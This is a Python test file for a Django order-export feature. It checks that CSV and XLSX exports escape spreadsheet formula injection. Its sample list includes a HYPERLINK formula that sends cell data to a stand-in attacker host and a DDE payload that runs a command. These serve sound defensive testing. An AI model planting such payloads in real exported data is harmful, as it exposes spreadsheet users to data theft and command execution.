"""Exported files: whatever a retailer wrote into an order, a spreadsheet shows it and runs nothing."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from integrations.exports.making import make, request_export
from integrations.exports.writing import read_back, safe_cell, write_csv, write_xlsx
from integrations.models import Export
from orders.models import Order

FORMULAS = ['=HYPERLINK("http://evil.example?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "  =1", "＝1"]
RUN = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@given(st.text(max_size=40))
def test_no_text_becomes_a_formula_and_every_text_can_be_read_back(text: str) -> None:
    cell = str(safe_cell(text))
    assert not cell.lstrip(" ").startswith(RUN)
    assert str(safe_cell(read_back(cell))) == cell


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_order_with_formulas_for_texts_is_exported_as_text(file_format: str) -> None:
    for number, formula in enumerate(FORMULAS):
        Order.objects.create(
            dsco_order_id=str(number + 1), po_number=formula, retailer_id=formula[:20], first_seen_at=timezone.now(),
            read_at=timezone.now(),
        )  # fmt: skip
    export = request_export("order", file_format, User.objects.create_superuser("mei"))
    make(export.pk)
    content = bytes(Export.objects.get().content or b"")
    cells: list[Any] = []
    if file_format == "csv":
        rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
        cells = [cell for row in rows for cell in row]
    else:
        sheet = load_workbook(io.BytesIO(content)).active
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)
            cells += [cell.value for cell in row if isinstance(cell.value, str)]
    assert any("HYPERLINK" in cell for cell in cells)
    assert [cell for cell in cells if cell.lstrip(" ").startswith(RUN)] == []


def test_headers_are_written_as_carefully_as_cells() -> None:
    assert b"'=1" in write_csv(["=1"], [["x"]])
    assert load_workbook(io.BytesIO(write_xlsx(["=1"], [["=2"]]))).active["A2"].data_type != "f"
